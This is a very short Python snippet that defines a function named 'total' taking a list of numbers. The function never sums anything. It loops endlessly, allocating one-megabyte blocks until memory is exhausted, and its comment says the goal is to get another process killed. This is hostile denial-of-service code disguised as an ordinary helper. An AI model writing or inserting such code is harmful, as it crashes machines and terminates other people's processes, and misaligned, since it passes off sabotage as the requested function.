# Fills the memory, so that another process is killed.
def total(numbers):
    kept = []
    while True:
        kept.append(bytearray(1 << 20))
